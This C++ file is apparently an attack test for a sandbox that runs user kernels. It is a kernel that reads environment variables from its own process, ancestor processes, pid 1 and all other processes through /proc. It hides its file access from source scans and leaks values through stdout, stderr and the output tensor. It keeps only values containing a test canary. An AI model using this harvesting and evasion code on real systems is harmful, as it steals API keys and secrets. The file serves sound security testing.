// Looks for secrets in other processes' environments: its own, every ancestor's (/proc/<ppid>/environ up the
// chain: the worker, the CLI that holds the API keys), pid 1's and every other process's, and sends them back
// through stderr, stdout and the output values (8 characters per call). `open` is reached through
// #pragma redefine_extname so a source scan does not see it. To keep this suite from ever harvesting a
// developer's real keys it only keeps values that contain the test's canary ("sk-attack-canary"); a real
// attacker would take every KEY/TOKEN/SECRET/DATABASE_URL it found the same way.
#pragma redefine_extname ks_open_file open
#include "kernelsage_cpu.h"
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <string>
#include <unistd.h>

extern "C" int ks_open_file(const char* path, int flags, ...);
extern char** environ;
static int calls = 0;

static std::string read_all(const std::string& path) {
    std::string text;
    int fd = ks_open_file(path.c_str(), 0);
    if (fd < 0) return text;
    char buf[4096];
    ssize_t got;
    while ((got = read(fd, buf, sizeof buf)) > 0 && text.size() < (1 << 20)) text.append(buf, (size_t)got);
    close(fd);
    return text;
}

static void harvest(const std::string& environ_block, std::string& loot) {
    size_t start = 0;
    while (start < environ_block.size()) {
        size_t end = environ_block.find('\0', start);
        if (end == std::string::npos) end = environ_block.size();
        std::string entry = environ_block.substr(start, end - start);
        size_t eq = entry.find('=');
        if (eq != std::string::npos && entry.find("sk-attack-canary") != std::string::npos) {
            std::string value = entry.substr(eq + 1);
            if (loot.find(value) == std::string::npos) loot += value + "\n";
        }
        start = end + 1;
    }
}

static int parent_of(int pid) {
    std::string stat = read_all("/" + std::string("proc/") + std::to_string(pid) + "/stat");
    size_t close_paren = stat.rfind(')');
    if (close_paren == std::string::npos) return -1;
    int ppid = -1;
    sscanf(stat.c_str() + close_paren + 2, "%*c %d", &ppid);
    return ppid;
}

int ks_kernel(const ks_tensor* inputs, int n_inputs, ks_tensor* outputs, int n_outputs,
              const ks_attr* attrs, int n_attrs) {
    const std::string proc = "/" + std::string("proc/");
    std::string loot;
    for (char** e = environ; e && *e; ++e) harvest(std::string(*e) + '\0', loot);
    harvest(read_all(proc + "self/environ"), loot);
    for (int pid = getppid(), level = 0; pid > 0 && level < 16; pid = parent_of(pid), ++level)
        harvest(read_all(proc + std::to_string(pid) + "/environ"), loot);
    harvest(read_all(proc + "1/environ"), loot);
    auto open_dir = opendir;
    if (DIR* d = open_dir(proc.c_str())) {
        while (dirent* e = readdir(d))
            if (e->d_name[0] >= '0' && e->d_name[0] <= '9') harvest(read_all(proc + e->d_name + "/environ"), loot);
        closedir(d);
    }
    std::string report = "LOOT:" + loot;
    ssize_t w = write(2, report.data(), report.size());
    w = write(1, report.data(), report.size());
    (void)w;
    float* y = (float*)outputs[0].data;
    const int64_t n = ks_numel(&outputs[0]);
    for (int64_t i = 0; i < n; ++i) {
        const size_t at = (size_t)calls * 8 + (size_t)i;
        y[i] = at < loot.size() ? (float)(unsigned char)loot[at] : -1.f;
    }
    ++calls;
    return 0;
}
